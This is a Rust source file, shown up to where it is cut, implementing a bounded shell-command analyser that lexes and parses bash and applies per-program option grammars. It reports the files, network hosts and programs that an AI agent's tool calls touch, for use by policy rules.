//! What a shell command touches: files read and written, network hosts, and the
//! programs it runs.
//!
//! Three hand-written steps:
//!
//! 1. **Lexer**, bash syntax: words with `'…'`, `"…"`, `$'…'`, `$"…"`,
//!    backslashes and line continuations; operators `|`, `|&`, `||`, `&&`, `;`,
//!    `&`, `;;`, `;&`, `;;&`, `(`, `)` and newlines; `#` comments; redirections
//!    `<`, `>`, `>>`, `>|`, `<>`, `&>`, `&>>`, `N>`, `{fd}>`, `N>&M`, `>&-`;
//!    here-documents (`<<`, `<<-`, quoted or not: the body is data, never
//!    commands) and here-strings (`<<<`). Command substitutions `$(…)` and
//!    `` `…` `` and process substitutions `<(…)`, `>(…)` are lexed recursively,
//!    also inside double quotes and unquoted here-document bodies: their commands
//!    are analysed like the others. `$((…))`, `((…))` and `${…}` are skipped.
//! 2. **Parser**: tokens become simple commands. Compound commands are seen
//!    through: subshells `( … )`, groups `{ …; }`, `if`/`then`/`elif`/`else`/`fi`,
//!    `while`/`until`/`do`/`done`, `!`; `for`/`select` headers, `case … in` and its
//!    patterns, `[[ … ]]` and function names (`f() { … }`, `function f { … }`) are
//!    dropped (the bodies are analysed).
//! 3. **Programs**: wrappers are removed (`VAR=x`, `env`, `sudo`, `doas`,
//!    `nohup`, `nice`, `ionice`, `timeout`, `time`, `stdbuf`, `setsid`,
//!    `command`, `builtin`, `exec`, `busybox`), then each program's arguments are
//!    parsed with its own option grammar (which options take a value, short
//!    clusters like `-xzf a.tgz`, `--opt=value`, `--`), and only the words that
//!    grammar defines as files or hosts are kept. Commands that run other code
//!    are followed: `bash`/`sh`/`zsh`/`dash`/`ksh`/`ash`/`mksh -c '…'` (or a
//!    script fed on stdin by a here-document or here-string), `eval`,
//!    `find -exec/-execdir/-ok`, `xargs`, `env -S`, `socat EXEC:`/`SYSTEM:`.
//!    Nesting is followed 4 levels deep; the input is analysed up to 256 KiB and
//!    the work for one line is bounded, so nothing is quadratic and nothing
//!    recurses without limit.
//!
//! Interpreter code given inline (`python -c`, `node -e`/`-p`, `ruby -e`,
//! `perl -e`, `php -r`, or on stdin by a here-document) is not parsed, but every
//! `http://`, `https://`, `ws://`, `wss://` and `ftp://` URL literal in it counts
//! as a network host.
//!
//! It under-reports rather than guesses: a word is a path only where the
//! program's syntax says so, and a word that is nothing but an expansion
//! (`"$f"`, `$(…)`) is never a path or a host. Paths are kept as written
//! (relative, `~`, `$HOME/…`, globs); `-`, `/dev/null`, `/dev/std*`,
//! `/dev/fd/*` and `/dev/tty` are not paths. Not handled: aliases and
//! functions' later calls (a call `f` is just a program `f`), variables' values,
//! `cd` (paths stay relative to where they were written), globs and brace
//! expansion (kept as written), what a script file or a `sed`/`awk` program
//! does (`w file`, `system()`), `ssh host cmd` (the remote command runs
//! elsewhere), arithmetic, programs not listed in docs/vendors.md.
//!
//! Why hand-written: no maintained crate parses shell *operators*, redirections
//! and here-documents together with per-program option grammars
//! (`shlex`/`shell-words` only split words; full shell parsers give an AST but
//! know nothing about `curl -o` or `tar -C`), and this must stay fast because it
//! runs on every tool call at intake: no regexes, linear lexing, bounded work.

use std::collections::HashSet;

/// Nesting followed below the command line: substitutions, `bash -c`, `eval`,
/// `find -exec`, `xargs`, `env -S`. Deeper code is skipped.
const MAX_DEPTH: usize = 4;
/// Longer command lines are analysed up to this many bytes.
const MAX_INPUT: usize = 256 * 1024;
/// Words and bytes looked at for one command line, nesting included.
const MAX_WORK: usize = 4 * MAX_INPUT;

/// Facts derived from one command line.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct CommandFacts {
    pub paths_read: Vec<String>,
    pub paths_written: Vec<String>,
    pub network_hosts: Vec<String>,
    /// `argv[0]` of every simple command that runs, as written, wrappers removed
    /// (`sudo rm x` → `rm`), nested ones included (`bash -c`, `$(…)`, `-exec`,
    /// `xargs`).
    pub programs: Vec<String>,
}

/// Analyses a shell command line.
pub fn analyze(cmd: &str) -> CommandFacts {
    let mut walk = Walk::default();
    walk.script(bounded(cmd), 0);
    let mut facts = walk.facts;
    for v in [
        &mut facts.paths_read,
        &mut facts.paths_written,
        &mut facts.network_hosts,
        &mut facts.programs,
    ] {
        dedup(v);
    }
    facts
}

/// The argv of every simple command in a command line, in order, with wrappers
/// (`sudo`, `env VAR=x`, `nohup`, `timeout 5`, …) removed and redirections
/// dropped. Commands that run other commands are followed: the inner command
/// comes after its runner (`find . -exec rm {} ;` gives `find …` and `rm {}`;
/// `bash -c 'a; b'` gives `bash -c …`, `a`, `b`), substitutions before the
/// command that uses them (`echo $(id)` gives `id`, `echo $(id)`). Policies
/// (Codex prefix rules, Claude `Bash(…)` rules) and findings judge each of these
/// on its own, as the agents themselves do.
pub fn simple_commands(cmd: &str) -> Vec<Vec<String>> {
    let mut walk = Walk {
        argvs: Some(Vec::new()),
        ..Walk::default()
    };
    walk.script(bounded(cmd), 0);
    walk.argvs.unwrap_or_default()
}

/// Words that mean something else than a command name in command position.
const RESERVED_WORDS: [&str; 16] = [
    "if", "then", "else", "elif", "fi", "do", "done", "case", "esac", "while", "until", "for",
    "in", "function", "select", "time",
];

/// Joins argv into one readable line, quoting only where the shell would need it:
/// in command position also a reserved word (`fi`) or an assignment (`A=1`),
/// which would otherwise not be read as the command (found by fuzzing).
pub fn shell_join<S: AsRef<str>>(args: &[S]) -> String {
    args.iter()
        .enumerate()
        .map(|(i, a)| {
            let a = a.as_ref();
            let command_word_ok = i > 0 || !(RESERVED_WORDS.contains(&a) || a.contains('='));
            let safe = !a.is_empty()
                && command_word_ok
                && a.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "-_./=:,+@%^~".contains(c));
            if safe {
                a.to_string()
            } else {
                format!("'{}'", a.replace('\'', r"'\''"))
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// If argv is a shell wrapper (`bash -lc 'script'`), the script; else argv joined.
pub fn command_from_argv<S: AsRef<str>>(argv: &[S]) -> String {
    if argv.len() >= 3 {
        let prog = basename(argv[0].as_ref());
        let flag = argv[1].as_ref();
        if matches!(prog, "bash" | "sh" | "zsh" | "dash" | "ksh")
            && flag.starts_with('-')
            && flag.ends_with('c')
        {
            return argv[2].as_ref().to_string();
        }
    }
    shell_join(argv)
}

fn bounded(s: &str) -> &str {
    if s.len() <= MAX_INPUT {
        return s;
    }
    let mut end = MAX_INPUT;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

fn dedup(v: &mut Vec<String>) {
    if v.len() > 1 {
        let mut seen = HashSet::with_capacity(v.len());
        v.retain(|x| seen.insert(x.clone()));
    }
}

fn basename(s: &str) -> &str {
    s.rsplit('/').next().unwrap_or(s)
}

// ------------------------------------------------------------------- lexer

#[derive(Debug, Default)]
struct Word {
    text: String,
    /// any quoting: then it is no reserved word, and a here-doc body is literal
    quoted: bool,
    /// where in `text` the first quoted part begins: `A=1` is an assignment,
    /// `'A=1'` and `"A"=1` are not (the `=` must come before any quoting)
    quoted_from: Option<usize>,
    /// contains an expansion: `$x`, `${x}`, `$(…)`, `` `…` ``, `<(…)`
    dynamic: bool,
    /// contains something besides expansions
    literal: bool,
    /// the commands of its substitutions
    subs: Vec<Cmd>,
}

impl Word {
    fn quote(&mut self) {
        self.quoted = true;
        self.quoted_from.get_or_insert(self.text.len());
    }
    /// `NAME=value` as the shell reads it before a command (the value may be quoted).
    fn is_assignment(&self) -> bool {
        names_a_variable(&self.text)
            && self
                .text
                .find('=')
                .is_some_and(|eq| self.quoted_from.is_none_or(|q| eq < q))
    }
    fn lit(&mut self, s: &str) {
        if !s.is_empty() {
            self.text.push_str(s);
            self.literal = true;
        }
    }
    fn lit_char(&mut self, c: char) {
        self.text.push(c);
        self.literal = true;
    }
    fn expansion(&mut self, raw: &str) {
        self.text.push_str(raw);
        self.dynamic = true;
    }
    /// Neither quoted nor expanded: may be a reserved word.
    fn bare(&self) -> bool {
        !self.quoted && !self.dynamic
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Redir {
    Read,
    Write,
    ReadWrite,
    /// `>&N`, `>&-`, or bash's `>& file`
    DupOut,
    DupIn,
    HereDoc {
        strip_tabs: bool,
    },
    HereString,
}

#[derive(Debug)]
struct Redirect {
    kind: Redir,
    target: Word,
    /// a here-document's body
    body: Option<String>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Op {
    Pipe,
    And,
    Or,
    Semi,
    Amp,
    Newline,
    Open,
    Close,
    /// `;;`, `;&`, `;;&`
    CaseEnd,
}

#[derive(Debug)]
enum Tok {
    Word(Word),
    Redirect(Redirect),
    Op(Op),
}

/// A simple command: its words and redirections.
#[derive(Debug, Default)]
struct Cmd {
    words: Vec<Word>,
    redirects: Vec<Redirect>,
}

fn is_meta(c: u8) -> bool {
    matches!(
        c,
        b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')'
    )
}

/// `2` in `2>f`, `{fd}` in `{fd}>f`.
fn is_fd(w: &Word) -> bool {
    let t = w.text.as_str();
    w.bare()
        && !t.is_empty()
        && (t.bytes().all(|c| c.is_ascii_digit())
            || (t.len() > 2 && t.starts_with('{') && t.ends_with('}')))
}

/// `NAME=` or `NAME+=`, the start of an array assignment `NAME=(…)`.
fn is_assignment_prefix(t: &str) -> bool {
    let name = t
        .strip_suffix("+=")
        .or_else(|| t.strip_suffix('='))
        .unwrap_or("");
    is_name(name)
}

fn is_name(s: &str) -> bool {
    let mut b = s.bytes();
    b.next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == b'_')
        && b.all(|c| c.is_ascii_alphanumeric() || c == b'_')
}

/// The index after the `)` closing `open` parentheses, quote-aware; the end if none.
fn skip_parens(b: &[u8], mut i: usize, mut open: usize) -> usize {
    while i < b.len() {
        match b[i] {
            b'\\' => i += 1,
            b'\'' => {
                i += 1;
                while i < b.len() && b[i] != b'\'' {
                    i += 1;
                }
            }
            b'"' => {
                i += 1;
                while i < b.len() && b[i] != b'"' {
                    if b[i] == b'\\' {
                        i += 1;
                    }
                    i += 1;
                }
            }
            b'(' => open += 1,
            b')' => {
                open -= 1;
                if open == 0 {
                    return i + 1;
                }
            }
            _ => {}
        }
        i += 1;
    }
    b.len()
}

/// The index after the `}` closing a `${`; the end if none.
fn skip_braces(b: &[u8], mut i: usize) -> usize {
    let mut open = 1usize;
    while i < b.len() {
        match b[i] {
            b'\\' => i += 1,
            b'\'' => {
                i += 1;
                while i < b.len() && b[i] != b'\'' {
                    i += 1;
                }
            }
            b'{' => open += 1,
            b'}' => {
                open -= 1;
                if open == 0 {
                    return i + 1;
                }
            }
            _ => {}
        }
        i += 1;
    }
    b.len()
}

struct Lexer<'a> {
    s: &'a str,
    b: &'a [u8],
    pos: usize,
    depth: usize,
}

impl<'a> Lexer<'a> {
    fn new(s: &'a str, depth: usize) -> Self {
        Lexer {
            s,
            b: s.as_bytes(),
            pos: 0,
            depth,
        }
    }

    fn peek(&self, k: usize) -> Option<u8> {
        self.b.get(self.pos + k).copied()
    }

    /// Tokens to the end, or, `nested` in a `$(`, to its closing `)`.
    fn tokens(&mut self, nested: bool) -> Vec<Tok> {
        let mut toks = Vec::new();
        let mut heredocs = Vec::new();
        let mut parens = 0usize;
        while let Some(c) = self.peek(0) {
            let before = self.pos;
            match c {
                b' ' | b'\t' | b'\r' => self.pos += 1,
                b'\\' if self.peek(1) == Some(b'\n') => self.pos += 2,
                b'\n' => {
                    self.pos += 1;
                    toks.push(Tok::Op(Op::Newline));
                    self.heredoc_bodies(&mut toks, &mut heredocs);
                }
                b'#' => {
                    while self.peek(0).is_some_and(|c| c != b'\n') {
                        self.pos += 1;
                    }
                }
                b';' => {
                    let op = match (self.peek(1), self.peek(2)) {
                        (Some(b';'), Some(b'&')) => (Op::CaseEnd, 3),
                        (Some(b';' | b'&'), _) => (Op::CaseEnd, 2),
                        _ => (Op::Semi, 1),
                    };
                    self.pos += op.1;
                    toks.push(Tok::Op(op.0));
                }
                b'|' => {
                    let op = match self.peek(1) {
                        Some(b'|') => (Op::Or, 2),
                        Some(b'&') => (Op::Pipe, 2),
                        _ => (Op::Pipe, 1),
                    };
                    self.pos += op.1;
                    toks.push(Tok::Op(op.0));
                }
                b'&' => match self.peek(1) {
                    Some(b'&') => {
                        self.pos += 2;
                        toks.push(Tok::Op(Op::And));
                    }
                    Some(b'>') => {
                        self.pos += 2;
                        if self.peek(0) == Some(b'>') {
                            self.pos += 1;
                        }
                        self.redirect_target(Redir::Write, &mut toks, &mut heredocs);
                    }
                    _ => {
                        self.pos += 1;
                        toks.push(Tok::Op(Op::Amp));
                    }
                },
                b'(' if self.peek(1) == Some(b'(') => {
                    // `(( arithmetic ))`
                    self.pos = skip_parens(self.b, self.pos + 2, 2);
                }
                b'(' => {
                    self.pos += 1;
                    parens += 1;
                    toks.push(Tok::Op(Op::Open));
                }
                b')' => {
                    self.pos += 1;
                    if nested && parens == 0 {
                        break;
                    }
                    parens = parens.saturating_sub(1);
                    toks.push(Tok::Op(Op::Close));
                }
                b'<' | b'>' if self.peek(1) != Some(b'(') => {
                    self.redirect(&mut toks, &mut heredocs);
                }
                _ => {
                    let w = self.word();
                    let redirect_follows =
                        matches!(self.peek(0), Some(b'<' | b'>')) && self.peek(1) != Some(b'(');
                    if redirect_follows && is_fd(&w) {
                        self.redirect(&mut toks, &mut heredocs);
                    } else {
                        toks.push(Tok::Word(w));
                    }
                }
            }
            if self.pos == before {
                // cannot happen; never loop on one byte
                self.pos += self.s[before..].chars().next().map_or(1, char::len_utf8);
            }
        }
        toks
    }

    /// At `<` or `>`.
    fn redirect(&mut self, toks: &mut Vec<Tok>, heredocs: &mut Vec<usize>) {
        let (kind, len) = if self.peek(0) == Some(b'>') {
            match self.peek(1) {
                Some(b'>' | b'|') => (Redir::Write, 2),
                Some(b'&') => (Redir::DupOut, 2),
                _ => (Redir::Write, 1),
            }
        } else {
            match (self.peek(1), self.peek(2)) {
                (Some(b'<'), Some(b'<')) => (Redir::HereString, 3),
                (Some(b'<'), Some(b'-')) => (Redir::HereDoc { strip_tabs: true }, 3),
                (Some(b'<'), _) => (Redir::HereDoc { strip_tabs: false }, 2),
                (Some(b'&'), _) => (Redir::DupIn, 2),
                (Some(b'>'), _) => (Redir::ReadWrite, 2),
                _ => (Redir::Read, 1),
            }
        };
        self.pos += len;
        self.redirect_target(kind, toks, heredocs);
    }

    fn redirect_target(&mut self, kind: Redir, toks: &mut Vec<Tok>, heredocs: &mut Vec<usize>) {
        while matches!(self.peek(0), Some(b' ' | b'\t')) {
            self.pos += 1;
        }
        let process_sub = matches!(self.peek(0), Some(b'<' | b'>')) && self.peek(1) == Some(b'(');
        match self.peek(0) {
            None => return,
            Some(c) if is_meta(c) && !process_sub => return,
            _ => {}
        }
        let target = self.word();
        if matches!(kind, Redir::HereDoc { .. }) {
            heredocs.push(toks.len());
        }
        toks.push(Tok::Redirect(Redirect {
            kind,
            target,
            body: None,
        }));
    }

    /// After a newline: the bodies of the here-documents opened on that line.
    fn heredoc_bodies(&mut self, toks: &mut [Tok], pending: &mut Vec<usize>) {
        for idx in pending.drain(..) {
            let Some(Tok::Redirect(r)) = toks.get_mut(idx) else {
                continue;
            };
            let Redir::HereDoc { strip_tabs } = r.kind else {
                continue;
            };
            let mut body = String::new();
            while self.pos < self.b.len() {
                let end = self.b[self.pos..]
                    .iter()
                    .position(|&c| c == b'\n')
                    .map_or(self.b.len(), |i| self.pos + i);
                let mut line = &self.s[self.pos..end];
                self.pos = (end + 1).min(self.b.len());
                if strip_tabs {
                    line = line.trim_start_matches('\t');
                }
                if line.trim_end_matches('\r') == r.target.text {
                    break;
                }
                body.push_str(line);
                body.push('\n');
            }
            // an unquoted delimiter: the body's substitutions run
            if !r.target.quoted && self.depth < MAX_DEPTH && body.contains(['$', '`']) {
                let mut lx = Lexer::new(&body, self.depth);
                let mut w = Word::default();
                lx.dquoted(&mut w, false);
                r.target.subs.append(&mut w.subs);
            }
            r.body = Some(body);
        }
    }

    fn word(&mut self) -> Word {
        let mut w = Word::default();
        while let Some(c) = self.peek(0) {
            match c {
                b'<' | b'>' if self.peek(1) == Some(b'(') && w.text.is_empty() && !w.quoted => {
                    let start = self.pos;
                    self.pos += 2;
                    self.paren_sub(&mut w, start);
                }
                b'(' if !w.quoted && is_assignment_prefix(&w.text) => {
                    // `a=(x y)`
                    let start = self.pos;
                    self.pos = skip_parens(self.b, self.pos + 1, 1);
                    w.lit(&self.s[start..self.pos]);
                }
                _ if is_meta(c) => break,
                b'\'' => {
                    w.quote();
                    self.pos += 1;
                    let start = self.pos;
                    while self.peek(0).is_some_and(|c| c != b'\'') {
                        self.pos += 1;
                    }
                    w.lit(&self.s[start..self.pos]);
                    if self.pos < self.b.len() {
                        self.pos += 1;
                    }
                }
                b'"' => {
                    w.quote();
                    self.pos += 1;
                    self.dquoted(&mut w, true);
                }
                b'\\' => {
                    w.quote();
                    self.pos += 1;
                    match self.s[self.pos..].chars().next() {
                        Some('\n') => self.pos += 1,
                        Some(ch) => {
                            w.lit_char(ch);
                            self.pos += ch.len_utf8();
                        }
                        None => {}
                    }
                }
                b'$' => self.dollar(&mut w, false),
                b'`' => self.backtick(&mut w),
                _ => {
                    let start = self.pos;
                    while self.peek(0).is_some_and(|c| {
                        !is_meta(c) && !matches!(c, b'\'' | b'"' | b'\\' | b'$' | b'`')
                    }) {
                        self.pos += 1;
                    }
                    w.lit(&self.s[start..self.pos]);
                }
            }
        }
        w
    }

    /// Inside `"…"` (after the opening quote), or a here-document body (`closing`
    /// false: to the end, `"` is literal).
    fn dquoted(&mut self, w: &mut Word, closing: bool) {
        while let Some(c) = self.peek(0) {
            match c {
                b'"' if closing => {
                    self.pos += 1;
                    return;
                }
                b'\\' => match self.peek(1) {
                    Some(b'\n') => self.pos += 2,
                    Some(d @ (b'$' | b'`' | b'"' | b'\\')) if closing || d != b'"' => {
                        w.lit_char(d as char);
                        self.pos += 2;
                    }
                    _ => {
                        w.lit_char('\\');
                        self.pos += 1;
                    }
                },
                b'$' => self.dollar(w, true),
                b'`' => self.backtick(w),
                _ => {
                    let start = self.pos;
                    self.pos += 1;
                    while self.peek(0).is_some_and(|c| {
                        (c != b'"' || !closing) && !matches!(c, b'\\' | b'$' | b'`')
                    }) {
                        self.pos += 1;
                    }
                    w.lit(&self.s[start..self.pos]);
                }
            }
        }
    }

    /// At `$`.
    fn dollar(&mut self, w: &mut Word, in_dquotes: bool) {
        let start = self.pos;
        match self.peek(1) {
            Some(b'(') if self.peek(2) == Some(b'(') => {
                self.pos = skip_parens(self.b, self.pos + 3, 2);
                w.expansion(&self.s[start..self.pos]);
            }
            Some(b'(') => {
                self.pos += 2;
                self.paren_sub(w, start);
            }
            Some(b'{') => {
                self.pos = skip_braces(self.b, self.pos + 2);
                w.expansion(&self.s[start..self.pos]);
            }
            Some(b'\'') if !in_dquotes => {
                self.pos += 2;
                self.ansi_c(w);
            }
            // `$"…"`: a translated string, lexed as "…"
            Some(b'"') if !in_dquotes => self.pos += 1,
            Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
                self.pos += 2;
                while self
                    .peek(0)
                    .is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_')
                {
                    self.pos += 1;
                }
                w.expansion(&self.s[start..self.pos]);
            }
            Some(c) if c.is_ascii_digit() || b"@*#?-$!".contains(&c) => {
                self.pos += 2;
                w.expansion(&self.s[start..self.pos]);
            }
            _ => {
                self.pos += 1;
                w.lit_char('$');
            }
        }
    }

    /// After `$'`.
    fn ansi_c(&mut self, w: &mut Word) {
        w.quote();
        while let Some(c) = self.peek(0) {
            match c {
                b'\'' => {
                    self.pos += 1;
                    return;
                }
                b'\\' => match self.peek(1) {
                    Some(e) if e.is_ascii() => {
                        self.pos += 2;
                        match e {
                            b'n' => w.lit_char('\n'),
                            b't' => w.lit_char('\t'),
                            b'r' => w.lit_char('\r'),
                            b'e' | b'E' => w.lit_char('\x1b'),
                            b'\\' | b'\'' | b'"' | b'?' => w.lit_char(e as char),
                            _ => {
                                w.lit_char('\\');
                                w.lit_char(e as char);
                            }
                        }
                    }
                    _ => {
                        self.pos += 1;
                        w.lit_char('\\');
                    }
                },
                _ => {
                    let start = self.pos;
                    self.pos += 1;
                    while self.peek(0).is_some_and(|c| c != b'\'' && c != b'\\') {
                        self.pos += 1;
                    }
                    w.lit(&self.s[start..self.pos]);
                }
            }
        }
    }

    /// After the `(` of `$(`, `<(`, `>(`; `start` is where the expansion began.
    fn paren_sub(&mut self, w: &mut Word, start: usize) {
        if self.depth < MAX_DEPTH {
            let mut inner = Lexer {
                s: self.s,
                b: self.b,
                pos: self.pos,
                depth: self.depth + 1,
            };
            let toks = inner.tokens(true);
            self.pos = inner.pos;
            w.subs.extend(parse(toks));
        } else {
            self.pos = skip_parens(self.b, self.pos, 1);
        }
        w.expansion(&self.s[start..self.pos]);
    }

    /// At a backtick.
    fn backtick(&mut self, w: &mut Word) {
        let start = self.pos;
        self.pos += 1;
        let mut inner = String::new();
        while let Some(c) = self.peek(0) {
            match c {
                b'`' => {
                    self.pos += 1;
                    break;
                }
                b'\\' if matches!(self.peek(1), Some(b'`' | b'\\' | b'$')) => {
                    inner.push(self.b[self.pos + 1] as char);
                    self.pos += 2;
                }
                _ => {
                    let from = self.pos;
                    self.pos += 1;
                    while self.peek(0).is_some_and(|c| c != b'`' && c != b'\\') {
                        self.pos += 1;
                    }
                    inner.push_str(&self.s[from..self.pos]);
                }
            }
        }
        w.expansion(&self.s[start..self.pos]);
        if self.depth < MAX_DEPTH {
            let toks = Lexer::new(&inner, self.depth + 1).tokens(false);
            w.subs.extend(parse(toks));
        }
    }
}

// ------------------------------------------------------------------ parser

/// Simple commands, in order; a word's substitutions come before its command.
fn parse(toks: Vec<Tok>) -> Vec<Cmd> {
    #[derive(Clone, Copy, PartialEq, Eq)]
    enum Skip {
        No,
        /// `for x in …` / `select x in …`, to the end of the line
        Header,
        /// `case WORD`, to `in`
        CaseHead,
        /// case patterns, to `)`
        Pattern,
        /// `[[ … ]]`
        Test,
    }
    let mut out = Vec::new();
    let mut cur = Cmd::default();
    let mut skip = Skip::No;
    let mut cases = 0usize;
    let mut function_name = false;
    let mut toks = toks.into_iter().peekable();
    while let Some(tok) = toks.next() {
        match tok {
            Tok::Word(mut w) => {
                out.append(&mut w.subs);
                let bare = w.bare();
                match skip {
                    Skip::Test => {
                        if bare && w.text == "]]" {
                            skip = Skip::No;
                        }
                        continue;
                    }
                    Skip::Header => continue,
                    Skip::CaseHead => {
                        if bare && w.text == "in" {
                            skip = Skip::Pattern;
                        }
                        continue;
                    }
                    Skip::Pattern => {
                        if bare && w.text == "esac" {
                            cases = cases.saturating_sub(1);
                            skip = Skip::No;
                        }
                        continue;
                    }
                    Skip::No => {}
                }
                if function_name {
                    function_name = false;
                    continue;
                }
                if cur.words.is_empty() && bare {
                    match w.text.as_str() {
                        "{" | "}" | "!" | "if" | "then" | "elif" | "else" | "fi" | "while"
                        | "until" | "do" | "done" => continue,
                        "esac" => {
                            cases = cases.saturating_sub(1);
                            continue;
                        }
                        "for" | "select" => {
                            skip = Skip::Header;
                            continue;
                        }
                        "case" => {
                            cases += 1;
                            skip = Skip::CaseHead;
                            continue;
                        }
                        "[[" => {
                            skip = Skip::Test;
                            continue;
                        }
                        "function" => {
                            function_name = true;
                            continue;
                        }
                        _ => {}
                    }
                }
                cur.words.push(w);
            }
            Tok::Redirect(mut r) => {
                out.append(&mut r.target.subs);
                if skip == Skip::No {
                    cur.redirects.push(r);
                }
            }
            Tok::Op(op) => {
                match skip {
                    Skip::Test | Skip::CaseHead => continue,
                    Skip::Pattern => {
                        if op == Op::Close {
                            skip = Skip::No;
                        }
                        continue;
                    }
                    Skip::Header => {
                        if matches!(op, Op::Semi | Op::Newline) {
                            skip = Skip::No;
                        }
                        continue;
                    }
                    Skip::No => {}
                }
                // `name ( )`: a function definition
                if op == Op::Open
                    && cur.words.len() <= 1
                    && cur.redirects.is_empty()
                    && matches!(toks.peek(), Some(Tok::Op(Op::Close)))
                {
                    toks.next();
                    cur.words.clear();
                    continue;
                }
                flush(&mut cur, &mut out);
                if op == Op::CaseEnd && cases > 0 {
                    skip = Skip::Pattern;
                }
            }
        }
    }
    flush(&mut cur, &mut out);
    out
}

fn flush(cur: &mut Cmd, out: &mut Vec<Cmd>) {
    if !cur.words.is_empty() || !cur.redirects.is_empty() {
        out.push(std::mem::take(cur));
    }
}

// ----------------------------------------------------------- option grammar

/// One word of a simple command, after quote removal.
#[derive(Debug, Clone)]
struct Arg {
    text: String,
    dynamic: bool,
    /// nothing but expansions (`"$f"`, `$(…)`), or an `xargs`/`find` placeholder
    opaque: bool,
    /// a `NAME=value` the shell itself assigns (see [`Word::is_assignment`])
    assignment: bool,
}

impl From<Word> for Arg {
    fn from(w: Word) -> Self {
        let opaque = w.dynamic && !w.literal;
        Arg {
            assignment: !opaque && w.is_assignment(),
            opaque,
            dynamic: w.dynamic,
            text: w.text,
        }
    }
}

/// An operand or an option's value.
#[derive(Debug, Clone, Copy)]
struct Val<'a> {
    text: &'a str,
    dynamic: bool,
    opaque: bool,
}

impl<'a> Val<'a> {
    fn of(a: &'a Arg) -> Self {
        Val {
            text: &a.text,
            dynamic: a.dynamic,
            opaque: a.opaque,
        }
    }
    /// A part of this value (`f` of `--output=f`, `@f`).
    fn sub(self, text: &'a str) -> Self {
        Val {
            text,
            dynamic: self.dynamic,
            opaque: self.opaque
                || (self.dynamic && text.starts_with(['$', '`']) && !text.contains('/')),
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Name<'a> {
    S(char),
    L(&'a str),
}

impl Name<'_> {
    /// `short` `'\0'` or `long` `""` match nothing.
    fn is(self, short: char, long: &str) -> bool {
        match self {
            Name::S(c) => short != '\0' && c == short,
            Name::L(n) => !long.is_empty() && n == long,
        }
    }
}

#[derive(Debug)]
struct Opt<'a> {
    name: Name<'a>,
    value: Option<Val<'a>>,
    /// operands before it (`tar -C` applies to the operands after it)
    at: usize,
}

#[derive(Debug, Default)]
struct Parsed<'a> {
    opts: Vec<Opt<'a>>,
    operands: Vec<Val<'a>>,
    /// index of the first operand in the arguments (their length if none)
    rest: usize,
}

impl<'a> Parsed<'a> {
    fn has(&self, short: char, long: &str) -> bool {
        self.opts.iter().any(|o| o.name.is(short, long))
    }
    fn values(&self, short: char, long: &str) -> impl Iterator<Item = Val<'a>> + '_ {
        let long = long.to_owned();
        self.opts
            .iter()
            .filter(move |o| o.name.is(short, &long))
            .filter_map(|o| o.value)
    }
}

/// A program's option grammar.
struct Spec {
    /// short options that take a value (`-n 20`, `-n20`)
    short: &'static str,
    /// short options whose optional value can only be attached (`sed -i.bak`)
    attached: &'static str,
    /// long options that take a value (`--lines 20`, `--lines=20`), space-separated
    long: &'static str,
    /// options may follow operands (GNU); else the first operand ends them
    permute: bool,
}

impl Spec {
    const fn new(short: &'static str, long: &'static str) -> Self {
        Spec {
            short,
            attached: "",
            long,
            permute: true,
        }
    }
    const fn attached(self, attached: &'static str) -> Self {
        Spec { attached, ..self }
    }
    /// The first operand ends the options (the command of `sudo`, `xargs`, …).
    const fn strict(self) -> Self {
        Spec {
            permute: false,
            ..self
        }
    }
}

fn parse_args<'a>(args: &'a [Arg], spec: &Spec) -> Parsed<'a> {
    let mut p = Parsed {
        rest: args.len(),
        ..Parsed::default()
    };
    let mut i = 0;
    let mut only_operands = false;
    while i < args.len() {
        let a = &args[i];
        let t = a.text.as_str();
        if !only_operands && t == "--" && !a.opaque {
            i += 1;
            only_operands = true;
            if !spec.permute {
                p.rest = i;
                p.operands.extend(args[i..].iter().map(Val::of));
                break;
            }
            continue;
        }
        if only_operands || a.opaque || t.len() < 2 || !t.starts_with('-') {
            if p.operands.is_empty() {
                p.rest = i;
            }
            if !spec.permute {
                p.operands.extend(args[i..].iter().map(Val::of));
                break;
            }
            p.operands.push(Val::of(a));
            i += 1;
            continue;
        }
        i += 1;
        let at = p.operands.len();
        if let Some(long) = t.strip_prefix("--") {
            let (name, value) = match long.split_once('=') {
                Some((n, v)) => (n, Some(Val::of(a).sub(v))),
                None if spec.long.split(' ').any(|n| n == long) => {
                    i += 1;
                    (long, args.get(i - 1).map(Val::of))
                }
                None => (long, None),
            };
            p.opts.push(Opt {
                name: Name::L(name),
                value,
                at,
            });
            continue;
        }
        let cluster = &t[1..];
        for (k, ch) in cluster.char_indices() {
            let rest = &cluster[k + ch.len_utf8()..];
            if spec.short.contains(ch) {
                let value = if rest.is_empty() {
                    i += 1;
                    args.get(i - 1).map(Val::of)
                } else {
                    Some(Val::of(a).sub(rest))
                };
                p.opts.push(Opt {
                    name: Name::S(ch),
                    value,
                    at,
                });
                break;
            }
            if spec.attached.contains(ch) {
                p.opts.push(Opt {
                    name: Name::S(ch),
                    value: (!rest.is_empty()).then(|| Val::of(a).sub(rest)),
                    at,
                });
                break;
            }
            p.opts.push(Opt {
                name: Name::S(ch),
                value: None,
                at,
            });
        }
    }
    p
}

const NO_OPTS: Spec = Spec::new("", "");

// wrappers
const SUDO: Spec = Spec::new(
    "aCcDgpRrTtUu",
    "auth-type chdir chroot close-from command-timeout group host login-class other-user prompt \
     role type user",
)
.strict();
const DOAS: Spec = Spec::new("Cu", "").strict();
const ENV: Spec = Spec::new("uCS", "unset chdir split-string").strict();
const NICE: Spec = Spec::new("n", "adjustment").strict();
const IONICE: Spec = Spec::new("cnpPu", "class classdata pid pgid uid").strict();
const STDBUF: Spec = Spec::new("ioe", "input output error").strict();
const TIMEOUT: Spec = Spec::new("ks", "kill-after signal").strict();
const TIME: Spec = Spec::new("fo", "format output").strict();
const EXEC: Spec = Spec::new("a", "").strict();
const STRICT: Spec = Spec::new("", "").strict();

